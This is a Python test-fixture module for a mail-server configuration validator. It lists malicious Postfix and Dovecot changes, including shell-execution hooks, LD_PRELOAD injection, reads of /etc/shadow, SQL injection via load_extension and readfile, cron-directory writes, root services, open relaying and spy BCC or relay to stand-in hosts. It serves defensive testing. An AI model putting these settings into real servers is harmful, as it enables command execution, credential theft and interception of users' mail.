"""Files that a broken-into agent would send: each would run a command, read a file, leave the home, change a user or relay.

Every case is a change to the sample generation. `caught` says that the servers' own checkers complain as well; all others
pass `postfix check` and `doveconf -n`, which the test beside this file proves with the real programs.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from fumibako.layout import Home

Files = dict[str, str]
MAIN, MASTER, DOVECOT = "postfix/main.cf", "postfix/master.cf", "dovecot/dovecot.conf"
DOMAINS, ACCOUNTS = "postfix/domains.cf", "dovecot/accounts.conf"
APPS = "dovecot/app-passwords-sql.conf"


_GATE = (
    "passdb {\n  driver = sql\n  args = HOME/server/current/dovecot/system-sql.conf\n  result_success = continue\n"
    "  result_failure = return-fail\n  result_internalfail = return-fail\n}"
)
_PAM = "passdb {\n  driver = pam\n  override_fields = user=%Ln@example.jp\n}"


@dataclass(frozen=True)
class Case:
    name: str
    change: Callable[[Files, Home], None]
    caught: bool = False


def main(name: str, value: str, *, caught: bool = False) -> Case:
    """The parameter set to this value in main.cf; `HOME` stands for the home's directory."""

    def change(files: Files, home: Home) -> None:
        lines = [line for line in files[MAIN].splitlines() if not line.startswith(f"{name} =")]
        files[MAIN] = "\n".join([*lines, f"{name} = {value}".replace("HOME", str(home.root)), ""])

    return Case(f"main.cf {name} = {value}", change, caught)


def option(name: str, value: str) -> Case:
    """The parameter set after -o for the SMTP listener."""

    def change(files: Files, home: Home) -> None:
        lines = files[MASTER].splitlines()
        lines.insert(1, f"  -o {{ {name} = {value} }}".replace("HOME", str(home.root)))
        files[MASTER] = "\n".join([*lines, ""])

    return Case(f"master.cf -o {name} = {value}", change)


def service(text: str, *, caught: bool = False) -> Case:
    def change(files: Files, home: Home) -> None:
        files[MASTER] += text.replace("HOME", str(home.root)) + "\n"

    return Case(f"master.cf {text}", change, caught)


def dovecot(text: str, *, caught: bool = False) -> Case:
    def change(files: Files, home: Home) -> None:
        files[DOVECOT] += text.replace("HOME", str(home.root)) + "\n"

    return Case(f"dovecot.conf {' '.join(text.split())}", change, caught)


def swap(path: str, old: str, new: str, *, caught: bool = False) -> Case:
    def change(files: Files, home: Home) -> None:
        assert old in files[path], (path, old)
        files[path] = files[path].replace(old, new.replace("HOME", str(home.root)), 1)

    return Case(f"{path}: {old!r} becomes {new!r}", change, caught)


def dictionary(text: str) -> Case:
    def change(files: Files, home: Home) -> None:
        files["dovecot/dict-usage.conf"] = text.replace("HOME", str(home.root))

    return Case(f"dict-usage.conf {' '.join(text.split())}", change)


def stranger(path: str) -> Case:
    def change(files: Files, _home: Home) -> None:
        files[path] = "#!/bin/sh\nid\n"

    return Case(f"a file {path!r}", change)


def _columns(
    name: str, kind: str, program: str, *, private: str = "-", unprivileged: str = "-", chroot: str = "n"
) -> str:
    head = f"{name:<20} {kind:<10} "
    return head + " ".join(f"{one:<6}" for one in (private, unprivileged, chroot, "-", "-")) + f" {program}"


_MAP = "map {{\n  pattern = {}\n  table = {}\n  username_field = username\n  value_field = bytes\n}}\n"

CASES: tuple[Case, ...] = (
    # --- commands ---
    main("mailbox_command", "/bin/sh -c id"),
    main("luser_relay", "|/bin/sh"),
    main("debugger_command", "/bin/sh -c id"),
    main("import_environment", "MAIL_CONFIG TZ LANG=C LD_LIBRARY_PATH=HOME/evil"),
    main("meta_directory", "HOME/evil", caught=True),
    main("tls_config_file", "HOME/evil.cnf"),
    main("smtpd_banner", "$myhostname $(id)", caught=True),
    service(_columns("evil", "unix", "pipe", unprivileged="n") + "\n  user=nobody argv=/bin/sh -c id"),
    service(_columns("127.0.0.1:2", "inet", "spawn", private="n", unprivileged="n") + "\n  user=nobody argv=/bin/sh"),
    service(_columns("local", "unix", "local", unprivileged="n")),
    service(_columns("virtual", "unix", "virtual", unprivileged="n")),
    service(_columns("evil", "unix", "smtp", unprivileged="n")),
    service(_columns("bounce", "fifo", "pipe") + "\n  user=nobody argv=/bin/sh"),
    swap(MASTER, "      bounce\n", "      pipe user=nobody argv=/bin/sh\n"),
    swap(MASTER, "      smtpd\n", "      smtpd -D -v\n"),
    swap(MASTER, "      smtpd\n", "      ../../../../bin/sh\n"),
    option("import_environment", "LD_PRELOAD=HOME/evil.so"),
    option("debugger_command", "/bin/sh"),
    option("config_directory", "HOME/evil"),
    dovecot(
        "service evil {\n  executable = script /bin/sh\n  user = root\n  unix_listener evil {\n    mode = 0666\n  }\n}"
    ),
    dovecot("service imap {\n  executable = script /bin/sh\n}"),
    dovecot("mail_plugin_dir = HOME/evil"),
    dovecot("import_environment = LD_PRELOAD=HOME/evil.so"),
    dovecot("sendmail_path = /bin/sh"),
    dovecot("passdb {\n  driver = checkpassword\n  args = /bin/sh\n}"),
    dovecot("passdb {\n  driver = lua\n  args = file=HOME/evil.lua\n}"),
    dovecot("mail_plugins = mail_lua"),
    dovecot("plugin {\n  sieve_extprograms = /bin\n  sieve_plugins = sieve_extprograms\n}"),
    dovecot("plugin {\n  sieve_extensions = vnd.dovecot.pipe\n}"),
    dovecot("plugin {\n  sieve_extensions = +vnd.dovecot.execute\n}"),
    dovecot("plugin {\n  sieve_global_extensions = vnd.dovecot.execute\n}"),
    dovecot("plugin {\n  sieve_max_redirects = 1000\n}"),
    dovecot("submission_host = mail.evil.test:25"),
    # --- files ---
    dovecot("plugin {\n  sieve = file:/etc;active=/etc/passwd\n}"),
    dovecot("plugin {\n  sieve_before = file:HOME/evil.sieve\n}"),
    dovecot("plugin {\n  sieve_before = file:HOME/server/current/dovecot/quarantine.sieve;bindir=/etc\n}"),
    dovecot("plugin {\n  sieve_user_log = /etc/cron.d/evil\n}"),
    dovecot("dict {\n  sieve = file:/etc/evil\n}"),
    stranger("dovecot/evil.sieve"),
    stranger("dovecot/quarantine.sieve"),
    main("virtual_alias_maps", "texthash:/etc/shadow"),
    main("virtual_alias_maps", "proxy:texthash:/etc/shadow"),
    main("header_checks", "regexp:/etc/shadow"),
    main("smtpd_client_restrictions", "check_client_access texthash:/etc/shadow"),
    main("smtpd_recipient_restrictions", "check_recipient_access cidr:/etc/shadow"),
    main("mynetworks", "127.0.0.0/8, /etc/passwd"),
    main("relay_domains", "/etc/passwd"),
    main("bounce_template_file", "/etc/shadow"),
    main("smtpd_tls_chain_files", "/etc/shadow"),
    main("smtpd_tls_CAfile", "/etc/shadow"),
    main("smtp_tls_CAfile", "/etc/shadow"),
    main("smtpd_command_filter", "texthash:/etc/shadow"),
    option("smtpd_client_restrictions", "check_client_access texthash:/etc/shadow"),
    option("virtual_alias_maps", "texthash:/etc/shadow"),
    dovecot("ssl_ca = </etc/shadow"),
    dovecot("protocol imap {\n  login_greeting = </etc/debian_version\n}"),
    dovecot("ssl_key_password = </etc/shadow"),
    dovecot("!include_try /etc/evil.conf"),
    dovecot("passdb {\n  driver = passwd-file\n  args = /etc/shadow\n}"),
    dovecot("passdb {\n  driver = shadow\n}"),
    dovecot("protocol imap {\n  mail_location = mbox:/var/mail/%u\n}"),
    # --- out of the home ---
    main("data_directory", "HOME/evil"),
    main("maillog_file", "HOME/evil.log", caught=True),
    main("mail_spool_directory", "/root"),
    main("address_verify_map", "btree:/etc/evil"),
    main("smtp_tls_session_cache_database", "btree:/etc/evil"),
    main("virtual_mailbox_maps", "proxy:sqlite:/etc/evil.cf", caught=True),
    main("virtual_mailbox_maps", "proxy:sqlite:HOME/server/current/postfix/../../../evil.cf", caught=True),
    main("virtual_mailbox_domains", "socketmap:inet:203.0.113.9:25:x"),
    # Only the two tables of the mail filter's own socket, and only where forwarded mail is rewritten.
    main("sender_canonical_maps", "socketmap:unix:HOME/server/filter/other.sock:sender"),
    main("sender_canonical_maps", "socketmap:unix:HOME/server/filter/srs.sock:recipient"),
    main("recipient_canonical_maps", "socketmap:unix:HOME/server/filter/../../run/applier.sock:recipient"),
    main("virtual_alias_maps", "socketmap:unix:HOME/server/filter/srs.sock:recipient"),
    main("smtpd_restriction_classes", "srs_return, mine", caught=True),
    main("srs_return", "permit", caught=True),
    main("virtual_mailbox_domains", "tcp:203.0.113.9:25"),
    main("virtual_transport", "lmtp:unix:/run/other.sock"),
    main("smtpd_sasl_path", "inet:203.0.113.9:12345"),
    main("smtpd_sasl_type", "cyrus"),
    main("smtpd_milters", "unix:/run/evil.sock"),
    main("smtpd_recipient_restrictions", "check_policy_service unix:/run/evil.sock"),
    service(_columns("ask-evil/../../x", "unix", "smtpd") + "\n  -o smtpd_data_restrictions=reject"),
    dovecot("base_dir = HOME/evil"),
    dovecot("log_path = /etc/cron.d/evil"),
    dovecot("mail_home = /root"),
    dovecot("service auth {\n  unix_listener ../../evil {\n    mode = 0660\n  }\n}"),
    dovecot("service auth {\n  unix_listener /run/evil {\n    mode = 0666\n  }\n}"),
    dovecot("service stats {\n  inet_listener evil {\n    port = 2\n  }\n}"),
    dovecot("doveadm_password = x\nservice doveadm {\n  inet_listener evil {\n    port = 2\n  }\n}"),
    dovecot("mail_attribute_dict = file:/etc/evil"),
    dovecot("dict {\n  evil = sqlite:/etc/evil\n}"),
    dovecot("dict {\n  usage = file:/etc/evil\n}"),
    dovecot("service dict {\n  extra_groups = shadow\n}"),
    dovecot("service dict {\n  extra_groups = dovecot,fumibako-filter\n}"),
    dovecot("plugin {\n  quota_clone_dict = file:/etc/evil\n}"),
    dovecot("plugin {\n  quota_warning = storage=1%% evil\n}"),
    dictionary("connect = /etc/evil.db\n"),
    dictionary("connect = file:HOME/server/auth/passwords.db?mode=rw\n"),
    dictionary("connect = file:HOME/server/usage/usage.db?mode=rw\n" + _MAP.format("priv/evil", "usage")),
    dictionary("connect = file:HOME/server/usage/usage.db?mode=rw\n" + _MAP.format("priv/quota/storage", "counter")),
    dovecot("auth_policy_server_url = http://203.0.113.9/\nauth_policy_hash_nonce = x"),
    swap(DOMAINS, "/server/db/lookup.db?mode=ro", "/evil.db"),
    swap(ACCOUNTS, "connect = ", "connect = /etc/evil.db "),
    swap(ACCOUNTS, "driver = sqlite", "driver = mysql"),
    swap(DOMAINS, "SELECT name", "ATTACH '/etc/evil' AS evil; SELECT name"),
    swap(DOMAINS, "SELECT name", "SELECT load_extension('/tmp/evil.so'), name"),
    swap(DOMAINS, "SELECT name FROM", "SELECT readfile('/etc/shadow') FROM"),
    swap(DOMAINS, "SELECT name FROM domains", "WITH x AS (SELECT 1) DELETE FROM domains"),
    swap(DOMAINS, "'%s'", "%s"),
    stranger("postfix/evil.sh"),
    stranger("postfix/../../../evil.cf"),
    stranger("/etc/cron.d/evil"),
    stranger("dovecot/conf.d/evil.conf"),
    stranger("postfix/main.cf.proto"),
    # --- users ---
    main("default_privs", "root", caught=True),
    main("mail_owner", "daemon", caught=True),
    main("setgid_group", "shadow", caught=True),
    dovecot("service auth {\n  user = root\n}"),
    dovecot("service imap {\n  user = root\n}"),
    dovecot("service auth-worker {\n  user = root\n  extra_groups = shadow\n}"),
    dovecot("default_internal_user = root"),
    dovecot("mail_uid = root"),
    dovecot("mail_access_groups = shadow"),
    dovecot("mail_privileged_group = shadow"),
    dovecot("valid_chroot_dirs = /"),
    dovecot("mail_chroot = /"),
    dovecot("service lmtp {\n  unix_listener lmtp2 {\n    mode = 0666\n    user = nobody\n  }\n}"),
    swap(ACCOUNTS, "user_query = SELECT address AS user", "user_query = SELECT address AS user, 0 AS uid, '/' AS home"),
    swap(ACCOUNTS, "user_query = SELECT address AS user", "user_query = SELECT *"),
    swap(
        ACCOUNTS,
        "user_query = SELECT address AS user FROM",
        "user_query = SELECT 0 uid EXCEPT SELECT address AS user FROM",
    ),
    # --- whose mail, and for whom ---
    main("mynetworks", "0.0.0.0/0"),
    main("mynetworks", "0.0.0.0/1, 128.0.0.0/1"),
    main("mynetworks", "[::]/0"),
    main("relay_domains", "static:all"),
    main("smtpd_relay_restrictions", "permit"),
    main("smtpd_relay_restrictions", "check_client_access static:OK, reject"),
    main("always_bcc", "spy@example.net"),
    main("recipient_bcc_maps", "static:spy@example.net"),
    main("smtpd_sender_restrictions", "check_sender_access static:{REDIRECT spy@example.net}"),
    main("smtpd_sender_restrictions", "check_sender_access static:{FILTER smtp:[203.0.113.9]:25}"),
    service(_columns("ask-mail", "unix", "smtpd")),
    # Only a private clone, which takes no mail, may be told by anybody who the client is.
    main("smtpd_authorized_xclient_hosts", "0.0.0.0/0, [::]/0"),
    option("smtpd_authorized_xclient_hosts", "0.0.0.0/0, [::]/0"),
    service(_columns("ask-mail", "unix", "smtpd") + "\n  -o { smtpd_authorized_xclient_hosts = 0.0.0.0/0, [::]/0 }"),
    dovecot("passdb {\n  driver = static\n  args = nopassword=y\n}"),
    dovecot("passdb {\n  driver = pam\n}"),
    dovecot("passdb {\n  driver = pam\n  args = session=yes other\n}"),
    dovecot("passdb {\n  driver = pam\n  override_fields = user=%Ln@example.jp\n}"),
    dovecot(
        "passdb {\n  driver = sql\n  args = HOME/server/current/dovecot/accounts.conf\n  result_success = continue\n}"
    ),
    dovecot(_GATE),
    dovecot(_GATE + "\n" + _PAM.replace("=%Ln@example.jp", "=root")),
    dovecot(_GATE.replace("system-sql", "accounts") + "\n" + _PAM),
    dovecot(_GATE.replace("result_failure = return-fail", "result_failure = continue") + "\n" + _PAM),
    dovecot(_GATE.replace("  result_failure = return-fail\n", "") + "\n" + _PAM),
    swap("dovecot/system-sql.conf", "AND name <> 'root' ", ""),
    swap("dovecot/system-sql.conf", "'Y' AS noauthenticate FROM system_users", "'Y' AS nopassword FROM system_users"),
    swap("dovecot/system-sql.conf", "mail/system/%n' AS home", "mail/../../../%n' AS home"),
    swap(ACCOUNTS, "'%u'", "'%w'"),
    swap(ACCOUNTS, "'%u'", "'%{password}'"),
    swap(ACCOUNTS, "'%u'", "'%{sha256:password}'"),
    swap(APPS, "'%{sha256:password}'", "'%{password}'"),
    swap(APPS, "'%{sha256:password}'", "'%w'"),
    swap(APPS, "digest = '%{sha256:password}'", "'%{sha256:password}' <> ''"),
    swap(APPS, "address = '%u' AND digest", "digest"),
    swap(APPS, "AND enabled = 1 ", ""),
    swap(APPS, "'{SHA256.HEX}' || digest AS password", "NULL AS password, 'Y' AS nopassword"),
    dovecot("service auth-worker {\n  extra_groups = root\n}"),
    dovecot("service imap {\n  extra_groups = shadow\n}"),
    dovecot("auth_mechanisms = anonymous"),
    dovecot("auth_debug_passwords = yes"),
)


def write(files: Files, folder: Path) -> None:
    """The files of a generation as they would lie on the disk; those that would land elsewhere are left out."""
    for path, text in files.items():
        if path.startswith("/") or ".." in path:
            continue
        place = folder / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text)
